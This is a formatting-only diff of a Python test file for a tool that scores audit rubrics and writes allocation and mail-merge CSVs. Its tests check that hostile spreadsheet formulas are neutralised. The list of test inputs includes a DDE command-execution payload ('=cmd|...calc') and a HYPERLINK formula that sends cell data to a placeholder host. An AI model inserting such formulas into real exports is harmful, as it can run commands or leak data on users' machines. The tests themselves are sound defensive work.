@@ -23,8 +23,19 @@ from qactl.rubric.models import Item
 from qactl.sheets.csvcell import csv_cell, csv_row
 
 HOSTILE = [
-    "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
-    '=HYPERLINK("http://example.invalid/?x="&A1,"click")', "=cmd|' /C calc'!A0", "-", "+", "@",
+    "=1+1",
+    "+SUM(A1:A9)",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "-",
+    "+",
+    "@",
 ]
 NUMBERS_AS_TEXT = ["-3.5", "+2", "-0", "12"]
 
@@ -65,7 +76,9 @@ def _key(monkeypatch, tmp_path):
 
 @pytest.mark.parametrize("include_pii", [False, True])
 def test_scored_csv_with_hostile_text_in_every_field(tmp_path, include_pii):
-    rubric = resolve("annual-review").rubric  # fields of every type, items, milestones, comments, a reason field
+    rubric = resolve(
+        "annual-review"
+    ).rubric  # fields of every type, items, milestones, comments, a reason field
     cols = rubric.columns()
     headers = ["ID", "Start time", "Completion time", "Email", "Name", *[c.text for c in cols], *HOSTILE[:6]]
     rows = []
@@ -96,8 +109,16 @@ def test_allocation_mail_merge_and_chase_csv_with_hostile_text_in_every_field(tm
 
     lines = ["auditors:"]
     for n, bad in enumerate(HOSTILE[:8]):
-        q = bad.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n")
-        lines.append(f'  - {{id: "{q}{n}", name: "{q}", service: "{q}{n % 3}", organisation: "{q}", email: "{q}"}}')
+        q = (
+            bad.replace("\\", "\\\\")
+            .replace('"', '\\"')
+            .replace("\t", "\\t")
+            .replace("\r", "\\r")
+            .replace("\n", "\\n")
+        )
+        lines.append(
+            f'  - {{id: "{q}{n}", name: "{q}", service: "{q}{n % 3}", organisation: "{q}", email: "{q}"}}'
+        )
     cohort = tmp_path / "cohort.yaml"
     cohort.write_text("\n".join(lines) + "\n", encoding="utf-8")
     plans = tmp_path / "plans.csv"
@@ -107,8 +128,30 @@ def test_allocation_mail_merge_and_chase_csv_with_hostile_text_in_every_field(tm
         for n, bad in enumerate(HOSTILE[:8]):
             w.writerow([f"{bad}{n}", "01/09/2025", "new", bad, bad, bad, ""])
     out, merge = tmp_path / "allocation.csv", tmp_path / "mail-merge.csv"
-    monkeypatch.setattr(sys, "argv", ["qactl", "allocate", "--plans", str(plans), "--cohort", str(cohort), "--round", "=R", "--from", "01/06/2025", "--to", "30/09/2025",
-                                      "--per-auditor", "1", "-o", str(out), "--mail-merge", str(merge)])
+    monkeypatch.setattr(
+        sys,
+        "argv",
+        [
+            "qactl",
+            "allocate",
+            "--plans",
+            str(plans),
+            "--cohort",
+            str(cohort),
+            "--round",
+            "=R",
+            "--from",
+            "01/06/2025",
+            "--to",
+            "30/09/2025",
+            "--per-auditor",
+            "1",
+            "-o",
+            str(out),
+            "--mail-merge",
+            str(merge),
+        ],
+    )
     with pytest.raises(SystemExit) as e:
         main()
     assert e.value.code in (0, None), capsys.readouterr().err
@@ -123,11 +166,28 @@ def test_allocation_mail_merge_and_chase_csv_with_hostile_text_in_every_field(tm
     rubric = resolve("ehcp-quality").rubric
     with scored.open("w", encoding="utf-8", newline="") as f:
         csv.writer(f).writerows([[c.text for c in rubric.columns()], ["" for _ in rubric.columns()]])
-    r = CliRunner().invoke(app, ["score", "ehcp-quality", str(scored), "-o", str(returns)], catch_exceptions=False)
+    r = CliRunner().invoke(
+        app, ["score", "ehcp-quality", str(scored), "-o", str(returns)], catch_exceptions=False
+    )
     assert r.exit_code in (0, 1), r.output
     chased = tmp_path / "reminders.csv"
-    monkeypatch.setattr(sys, "argv", ["qactl", "chase", str(returns), "--allocation", str(alloc), "--rubric", "ehcp-quality",
-                                      "-o", str(tmp_path / "chase.xlsx"), "--mail-merge", str(chased)])
+    monkeypatch.setattr(
+        sys,
+        "argv",
+        [
+            "qactl",
+            "chase",
+            str(returns),
+            "--allocation",
+            str(alloc),
+            "--rubric",
+            "ehcp-quality",
+            "-o",
+            str(tmp_path / "chase.xlsx"),
+            "--mail-merge",
+            str(chased),
+        ],
+    )
     with pytest.raises(SystemExit) as e:
         main()
     assert e.value.code in (0, None), capsys.readouterr().err
@@ -141,8 +201,14 @@ def test_allocation_mail_merge_and_chase_csv_with_hostile_text_in_every_field(tm
 def test_every_csv_writer_in_the_package_goes_through_the_neutraliser():
     """A new CSV output (a chase list, an export) must use qactl.sheets.csvcell, or this fails and names the file."""
     package = Path(__file__).resolve().parents[2] / "qactl"
-    writers = [p for p in package.rglob("*.py") if "csv.writer(" in p.read_text(encoding="utf-8") or "DictWriter(" in p.read_text(encoding="utf-8")]
+    writers = [
+        p
+        for p in package.rglob("*.py")
+        if "csv.writer(" in p.read_text(encoding="utf-8") or "DictWriter(" in p.read_text(encoding="utf-8")
+    ]
     assert writers  # the scored .csv, the allocation and the mail merge at least
     for p in writers:
         text = p.read_text(encoding="utf-8")
-        assert p.name == "csvcell.py" or "from qactl.sheets.csvcell import" in text, f"{p} writes CSV without the neutraliser"
+        assert p.name == "csvcell.py" or "from qactl.sheets.csvcell import" in text, (
+            f"{p} writes CSV without the neutraliser"
+        )
